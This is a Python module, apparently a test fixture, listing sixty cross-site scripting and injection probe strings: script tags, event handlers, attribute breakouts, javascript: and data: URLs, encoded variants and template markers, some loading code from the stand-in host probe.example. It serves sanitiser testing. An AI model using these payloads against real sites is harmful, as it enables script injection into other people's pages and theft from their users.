"""Sixty texts that would run, load or change something if any page took them for markup, a URL or code (X-14)."""

PROBE = "alert(document.domain)"
_TAGS = [
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script/x>{0}</script >", "<script src=//probe.example/x></script>",
    "<img src=x onerror={0}>", "<img/src=x/onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script>",
    "<svg/onload={0}//", "<body onload={0}>", "<iframe srcdoc='<script>{0}</script>'>", "<iframe src=javascript:{0}>",
    "<object data=javascript:{0}>", "<embed src=javascript:{0}>", "<details open ontoggle={0}>x", "<video><source onerror={0}>",
    "<input autofocus onfocus={0}>", "<a href=javascript:{0}>x</a>", "<form action=javascript:{0}><button>x",
    "<math><mtext><script>{0}</script>", "<base href=//probe.example/>", "<link rel=stylesheet href=//probe.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<style>@import '//probe.example/x'</style>",
    "<xss-probe>", "<template shadowrootmode=open><script>{0}</script></template>", "<!--><script>{0}</script>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
]
_BREAKOUTS = [
    "\"><script>{0}</script>", "'><script>{0}</script>", "\" onmouseover={0} x=\"", "' onfocus={0} autofocus x='",
    "`-{0}-`", "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</style><script>{0}</script>",
    "</script><script>{0}</script>", "</option></select><img src=x onerror={0}>", "--><img src=x onerror={0}>",
    "]]><script>{0}</script>", "\\\"><img src=x onerror={0}>", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "';{0}//", "\";{0}//", "</a href=x onclick={0}>",
]
_URLS = [
    "javascript:{0}", "JaVaScRiPt:{0}", "javascript://x%0a{0}", "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:{0}", "//probe.example/x", "\\\\probe.example\\x",
    "[x](javascript:{0})", "![x](x\"onerror=\"{0})",
]
_OTHERS = ["{{{{7*7}}}}${{7*7}}<%=7*7%>", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;img src=x onerror={0}&#62;", "%3Cscript%3E{0}%3C/script%3E", "\uff1cscript\uff1e{0}\uff1c/script\uff1e"]
ALL = [text.format(PROBE) for text in _TAGS + _BREAKOUTS + _URLS + _OTHERS]


def packs(size: int) -> list[str]:
    """All payloads, as many in one text as fit into `size` characters."""
    made, current = [], ""
    for payload in ALL:
        if current and len(current) + 1 + len(payload) > size:
            made.append(current)
            current = ""
        current = f"{current} {payload}" if current else payload
    return [*made, current]
